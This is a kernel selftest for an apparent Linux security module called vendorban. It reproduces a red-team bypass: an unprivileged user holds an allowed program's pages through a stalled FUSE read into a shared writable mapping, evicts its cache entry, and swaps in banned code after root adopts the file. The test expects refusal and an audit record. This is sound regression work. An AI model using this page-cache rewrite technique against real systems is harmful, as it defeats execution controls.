// SPDX-License-Identifier: GPL-2.0-only
/*
 * vendorban selftests - a user's suspicion evicted, then his file adopted
 *
 * Found by the outside red team (redteam7, RT7-4).  The loadable form's
 * inode table evicts first the suspect entries that a missing entry tells
 * as well: a file a user other than root may write is suspect without an
 * entry (vendorban_cache_unknown_suspect()), so its suspicion looked safe
 * to drop.  But that suspicion is derived from the file's owner and mode
 * *now*, and an honest root may change them.  As nobody, then root:
 *
 *   1. nobody writes T (an allowed program) in a 0777 directory on ext4
 *      or tmpfs that root mounted;
 *   2. nobody opens T O_RDWR, maps it MAP_SHARED|PROT_WRITE and read()s a
 *      file of his own FUSE mount (user namespace, direct I/O) into the
 *      mapping in a thread: the kernel holds T's pages and waits for the
 *      server; nobody unmaps T and closes it;
 *   3. nobody has 12 files of his own checked (mapped executable): with a
 *      table of two (cache_entries=2, tests/module-form/guest.sh) T's
 *      entry is evicted;
 *   4. root adopts T: chown root:root, chmod 0755 (an admin installing in
 *      place a tool a user built);
 *   5. T is run, or mapped executable (a library);
 *   6. the server answers with the banned program's bytes: the kernel
 *      copies them into T's page cache, under the running program; exit
 *      66 is the banned vendor's code.
 *
 * T must be refused at 5, with a denial record, reason=writable.  A copy
 * of T whose pages nobody holds still runs.  The control variant (no
 * adoption at 4) is refused in every form.  Before the fix, with
 * cache_entries=2 on stock 6.1, the four adopted variants ran the banned
 * code (first 0, last 66); the built-in form and the default table (no
 * eviction) refused them.  Run in every suite (guest/suite.sh, the
 * module form's suite with the default table) and with cache_entries=2.
 */
#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/mount.h>

#include "attacker.h"
#include "common.h"
#include "fuse_server.h"

#define WAIT_GOOD	FIX_BIN "wait-good"
#define WAIT_BANNED	FIX_BIN "wait-banned"
#define GOOD_EXIT	HELLO_EXIT
#define BANNED_EXIT	66
#define BASE		"/tmp/vb-heldadopt"
#define CROWD		12
#define EXT4_DEV	"/dev/vda"

FIXTURE(adopt) {
	char *good, *banned;
	size_t glen, blen;
	char mnt[64];
};

FIXTURE_VARIANT(adopt) {
	const char *fs;		/* "ext4" or "tmpfs" */
	const char *policy;
	bool library;		/* map T PROT_EXEC instead of running it */
	bool signed_good;	/* keep wait-good's signature (lockdown) */
	bool adopt;		/* root adopts T (false: the control) */
};

FIXTURE_VARIANT_ADD(adopt, ext4_exec_ban) { "ext4", "ban-by-subject-o", false, false, true };
FIXTURE_VARIANT_ADD(adopt, ext4_library_lockdown) { "ext4", "lockdown", true, true, true };
FIXTURE_VARIANT_ADD(adopt, tmpfs_library_ban) { "tmpfs", "ban-by-subject-o", true, false, true };
FIXTURE_VARIANT_ADD(adopt, tmpfs_exec_lockdown) { "tmpfs", "lockdown", false, true, true };
/* control: the same without root adopting T (must be refused) */
FIXTURE_VARIANT_ADD(adopt, tmpfs_exec_lockdown_noadopt) { "tmpfs", "lockdown", false, true, false };

/**
 * struct outcome - what the attacker saw
 * @setup: 0, or -errno of the step named in @step
 * @step: the step that failed
 * @first: 0 if T was started (or mapped), else -errno
 * @rewrite: the held read's result (bytes, or -errno)
 * @last: T's exit status after the rewrite; for a library BANNED_EXIT
 *        if the executable mapping holds the banned bytes, GOOD_EXIT if
 *        the allowed ones; -errno if refused
 * @control: exit status of a copy of T whose pages nobody holds
 */
struct outcome {
	int setup;
	char step[48];
	int first;
	int rewrite;
	int last;
	int control;
};

struct attack {
	const char *dir;
	const char *t_bytes, *banned;
	size_t tlen, blen;
	bool library;
	int to_root, from_root;	/* the attacker asks root to adopt T */
};

/* The held read, in its own thread. */
struct reader {
	int fd;
	char *map;
	size_t len;
	ssize_t ret;
};

static void *read_held(void *p)
{
	struct reader *r = p;

	r->ret = read(r->fd, r->map, r->len);
	if (r->ret < 0)
		r->ret = -errno;
	return NULL;
}

/* Nobody's FUSE mount in its own user namespace, serving the banned bytes. */
static int mount_fuse(struct outcome *o, const struct attack *a,
		      struct fuse_fs *fs, const char *mnt, int ready[2],
		      int go[2])
{
	int ret;

	memset(fs, 0, sizeof(*fs));
	if (failed(o, "user namespace", enter_userns()) ||
	    failed(o, "pipes", pipe2(ready, O_CLOEXEC) || pipe2(go, O_CLOEXEC)) ||
	    failed(o, "fuse_add", fuse_add_held(fs, "src", a->banned, a->blen,
						ready[1], go[0])))
		return -1;
	ret = fuse_start(fs, mnt);
	if (ret) {
		errno = -ret;
		failed(o, "mount fuse", 1);
		return -1;
	}
	return 0;
}

/*
 * Holds T's pages: maps @fd shared and writable, reads the held FUSE
 * file into the mapping in a thread, waits until the server has the
 * request, then unmaps T and closes @fd.
 */
static int hold_pages(struct outcome *o, const struct attack *a, int fd,
		      const char *src, int ready, struct reader *r,
		      pthread_t *th)
{
	char c;

	r->len = a->blen;
	r->fd = open(src, O_RDONLY | O_CLOEXEC);
	if (failed(o, "open fuse file", r->fd < 0))
		return -1;
	r->map = mmap(NULL, a->tlen, PROT_READ | PROT_WRITE, MAP_SHARED, fd,
		      0);
	if (failed(o, "mmap shared", r->map == MAP_FAILED))
		return -1;
	errno = pthread_create(th, NULL, read_held, r);
	if (failed(o, "pthread_create", errno != 0))
		return -1;
	if (failed(o, "held read", read(ready, &c, 1) != 1))
		return -1;
	/* the kernel holds T's pages now; nothing else does */
	munmap(r->map, a->tlen);
	close(fd);
	return 0;
}

/* Which program's bytes @p holds. */
static int look(const char *p, const struct attack *a)
{
	return !memcmp(p, a->banned, a->blen) ? BANNED_EXIT :
	       !memcmp(p, a->t_bytes, a->blen) ? GOOD_EXIT : -1;
}

/*
 * The holder process (the main one stays single-threaded for its fork):
 * holds T's pages, says so on @told, and exits with 0 once the held read
 * has filled them, 3 if it failed.
 */
static pid_t holder(struct outcome *o, const struct attack *a, int fd,
		    const char *src, int ready, int told)
{
	struct reader r;
	pthread_t th;
	pid_t pid = fork();

	if (failed(o, "fork holder", pid < 0) || pid > 0)
		return pid;
	if (hold_pages(o, a, fd, src, ready, &r, &th) ||
	    write(told, "h", 1) != 1)
		_exit(2);
	pthread_join(th, NULL);
	_exit(r.ret == (ssize_t)a->blen ? 0 : 3);
}

/* Uses T (exec or library), lets the server answer, sees what ran. */
static void use_and_rewrite(struct outcome *o, const struct attack *a,
			    const char *path, int go, pid_t held)
{
	char *lib = MAP_FAILED;
	int in = -1, err = 0, lfd, status;
	pid_t pid = -1;

	/* the denial's record is checked: the account's window fresh */
	await_audit_window();
	if (a->library) {
		lfd = open(path, O_RDONLY | O_CLOEXEC);
		lib = lfd < 0 ? MAP_FAILED :
		      mmap(NULL, a->tlen, PROT_READ | PROT_EXEC, MAP_PRIVATE,
			   lfd, 0);
		o->first = lib == MAP_FAILED ? -errno : 0;
		if (lfd >= 0)
			close(lfd);
	} else if (start_waiting(path, -1, "held-prog", &in, &pid, &err)) {
		o->first = -errno;
	} else {
		o->first = -err;
	}
	/* the server answers: the banned bytes go into the held pages */
	o->rewrite = -EPIPE;
	if (write(go, "g", 1) == 1 && waitpid(held, &status, 0) == held)
		o->rewrite = WIFEXITED(status) && !WEXITSTATUS(status) ?
			     (int)a->blen : -EIO;
	if (o->first)
		o->last = o->first;
	else if (a->library)
		o->last = look(lib, a);
	else
		o->last = finish_waiting(in, pid);
	if (lib != MAP_FAILED)
		munmap(lib, a->tlen);
}

/* A copy of T nobody holds: must still run. */
static int control(const struct attack *a)
{
	char path[128];
	int in, err;
	pid_t pid;

	snprintf(path, sizeof(path), "%s/control", a->dir);
	if (write_file(path, a->t_bytes, a->tlen))
		return -EIO;
	if (start_waiting(path, -1, "held-control", &in, &pid, &err))
		return -errno;
	return err ? -err : finish_waiting(in, pid);
}

/*
 * Has CROWD other files of nobody's checked (mapped executable), so that
 * the loadable form's table, when it is small (cache_entries=2,
 * tests/module-form/guest.sh), has evicted T's own by the time T is used.
 */
static void crowd_table(const struct attack *a)
{
	int i, fd, n = CROWD;
	char path[160];
	void *p;

	for (i = 0; i < n; i++) {
		snprintf(path, sizeof(path), "%s/crowd%d", a->dir, i);
		if (write_file(path, a->t_bytes, a->tlen))
			continue;
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		p = mmap(NULL, a->tlen, PROT_READ | PROT_EXEC, MAP_PRIVATE,
			 fd, 0);
		if (p != MAP_FAILED)
			munmap(p, a->tlen);
		close(fd);
	}
}

/* The attacker, as nobody. */
static void attacker(const struct attack *a, struct outcome *o)
{
	char path[128], mnt[128], src[160], c;
	int fd, ready[2], go[2], told[2];
	struct fuse_fs fs;
	pid_t held;

	snprintf(path, sizeof(path), "%s/prog", a->dir);
	snprintf(mnt, sizeof(mnt), "%s/fuse", a->dir);
	snprintf(src, sizeof(src), "%s/src", mnt);
	alarm(60);
	if (failed(o, "become nobody", become_nobody()) ||
	    failed(o, "write T", write_file(path, a->t_bytes, a->tlen)))
		return;
	if (failed(o, "mkdir fuse", mkdir(mnt, 0755) && errno != EEXIST) ||
	    mount_fuse(o, a, &fs, mnt, ready, go) ||
	    failed(o, "pipe", pipe2(told, O_CLOEXEC)))
		return;
	/* after the server's fork: only the holder has T open for writing */
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (failed(o, "open T O_RDWR", fd < 0))
		return;
	held = holder(o, a, fd, src, ready[0], told[1]);
	if (held < 0)
		return;
	close(fd);
	close(told[1]);
	if (failed(o, "held read", read(told[0], &c, 1) != 1))
		return;
	crowd_table(a);
	/* root adopts T (run_attack()): chown root:root, chmod 0755 */
	if (failed(o, "ask root", write(a->to_root, "a", 1) != 1) ||
	    failed(o, "root adopted T", read(a->from_root, &c, 1) != 1))
		return;
	use_and_rewrite(o, a, path, go[1], held);
	fuse_stop(&fs, mnt);
	o->control = control(a);
}

FIXTURE_SETUP(adopt)
{
	char dir[96];

	self->good = NULL;
	self->banned = NULL;
	vb_setup(_metadata);
	SKIPPED_IN_SETUP();
	self->good = read_fixture(_metadata, WAIT_GOOD, &self->glen);
	self->banned = read_fixture(_metadata, WAIT_BANNED, &self->blen);
	/* as Debian's udev leaves it (50-udev-default.rules); devtmpfs: 0600 */
	ASSERT_EQ(0, chmod("/dev/fuse", 0666));
	snprintf(self->mnt, sizeof(self->mnt), BASE "-%s", variant->fs);
	umount2(self->mnt, MNT_DETACH);
	mkdir(self->mnt, 0755);
	if (!strcmp(variant->fs, "ext4")) {
		ASSERT_EQ(0, mount(EXT4_DEV, self->mnt, "ext4", 0, NULL)) {
			TH_LOG("mount %s: %s: the VM needs its ext4 disk",
			       EXT4_DEV, strerror(errno));
		}
	} else {
		ASSERT_EQ(0, mount("tmpfs", self->mnt, "tmpfs", 0,
				   "mode=0755"));
	}
	snprintf(dir, sizeof(dir), "%s/vb-adopt", self->mnt);
	mkdir(dir, 0777);
	ASSERT_EQ(0, chmod(dir, 0777));
	/* a run stopped before its teardown may have left T, root's */
	snprintf(dir, sizeof(dir), "%s/vb-adopt/prog", self->mnt);
	unlink(dir);
}

/* Leaves nothing on the shared ext4 disk (T is root's once adopted). */
static void remove_files(const char *mnt)
{
	static const char *const names[] = { "prog", "control", "fuse" };
	char path[160];
	unsigned int i;

	for (i = 0; i < CROWD; i++) {
		snprintf(path, sizeof(path), "%s/vb-adopt/crowd%u", mnt, i);
		unlink(path);
	}
	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(path, sizeof(path), "%s/vb-adopt/%s", mnt, names[i]);
		if (unlink(path))
			rmdir(path);
	}
	snprintf(path, sizeof(path), "%s/vb-adopt", mnt);
	rmdir(path);
}

FIXTURE_TEARDOWN(adopt)
{
	vb_teardown(_metadata);
	remove_files(self->mnt);
	umount2(self->mnt, MNT_DETACH);
	free(self->good);
	free(self->banned);
}

/* Runs the attack in a child as nobody, under the variant's policy. */
static void run_attack(struct __test_metadata *const _metadata,
		       FIXTURE_DATA(adopt) *self,
		       const FIXTURE_VARIANT(adopt) *variant,
		       struct outcome *o)
{
	size_t glen = variant->signed_good ? self->glen :
		      unsigned_len(self->good, self->glen);
	char dir[96], *t = calloc(1, glen > self->blen ? glen : self->blen);
	struct attack a = {
		.dir = dir, .t_bytes = t, .banned = self->banned,
		.tlen = glen > self->blen ? glen : self->blen,
		.blen = self->blen, .library = variant->library,
	};
	int pfd[2], status, tr[2], fr[2];
	char path[160], c;
	pid_t pid;

	ASSERT_NE(NULL, t);
	memcpy(t, self->good, glen);
	snprintf(dir, sizeof(dir), "%s/vb-adopt", self->mnt);
	memset(o, 0, sizeof(*o));
	o->first = o->last = o->control = -1000;
	ASSERT_EQ(0, pipe2(pfd, O_CLOEXEC));
	ASSERT_EQ(0, pipe2(tr, O_CLOEXEC));
	ASSERT_EQ(0, pipe2(fr, O_CLOEXEC));
	a.to_root = tr[1];
	a.from_root = fr[0];
	use_policy(_metadata, variant->policy);
	pid = fork();
	ASSERT_LE(0, pid);
	if (pid == 0) {
		close(pfd[0]);
		attacker(&a, o);
		_exit(write(pfd[1], o, sizeof(*o)) == sizeof(*o) ? 0 : 1);
	}
	close(pfd[1]);
	close(tr[1]);
	close(fr[0]);
	/* root: adopt T once nobody holds its pages and crowded the table */
	snprintf(path, sizeof(path), "%s/prog", dir);
	if (read(tr[0], &c, 1) == 1) {
		if (variant->adopt) {
			EXPECT_EQ(0, chown(path, 0, 0));
			EXPECT_EQ(0, chmod(path, 0755));
		}
		EXPECT_EQ(1, write(fr[1], "r", 1));
	}
	close(tr[0]);
	close(fr[1]);
	ASSERT_EQ((ssize_t)sizeof(*o), read(pfd[0], o, sizeof(*o)));
	close(pfd[0]);
	ASSERT_EQ(pid, waitpid(pid, &status, 0));
	free(t);
	TH_LOG("%s %s %s: setup %d%s%s, first %d, held read %d, last %d, control %d",
	       variant->fs, variant->library ? "library" : "exec",
	       variant->policy, o->setup, o->setup ? " at " : "", o->step,
	       o->first, o->rewrite, o->last, o->control);
	ASSERT_EQ(0, o->setup) {
		TH_LOG("setup failed at %s: %s", o->step, strerror(-o->setup));
	}
}

TEST_F_TIMEOUT(adopt, refused, 300)
{
	const char *op = variant->library ? " op=mmap " : " op=exec ";
	struct outcome o;
	off_t mark;
	char *rec;

	SKIPPED_IN_SETUP();
	mark = audit_mark();
	run_attack(_metadata, self, variant, &o);
	EXPECT_NE(BANNED_EXIT, o.last) {
		TH_LOG("the banned vendor's code ran (or was mapped executable)");
	}
	EXPECT_EQ(-EACCES, o.first);
	EXPECT_EQ((int)self->blen, o.rewrite);
	EXPECT_EQ(GOOD_EXIT, o.control);
	rec = audit_wait(mark, WAIT_MS, "type=1316 ", "lsm=vendorban", op,
			 "decision=deny", " reason=writable ");
	EXPECT_NE(NULL, rec) {
		TH_LOG("no%sdenial record, reason=writable", op);
		audit_dump(_metadata, mark);
	}
	free(rec);
}

TEST_HARNESS_MAIN
